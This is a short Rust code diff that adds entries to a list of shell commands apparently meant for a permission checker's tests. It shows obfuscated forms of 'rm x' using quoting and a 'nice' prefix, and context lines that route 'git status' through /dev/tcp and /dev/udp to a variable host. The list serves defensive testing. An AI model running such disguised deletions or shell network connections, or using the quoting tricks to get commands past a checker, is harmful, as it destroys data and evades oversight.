@@ -6,6 +6,9 @@ pub const DENIED: &[&str] =
 
 /// Where something may be hidden.
 pub const ASKED: &[&str] = &[
+    "$\"r\"\\m x",
+    "nice '' rm x",
+    "nice é rm x",
     // Connections that the shell makes.
     "git status < /dev/tcp/$h/7788 >&0",
     "git status < \"/dev/udp/$h/7788\"",
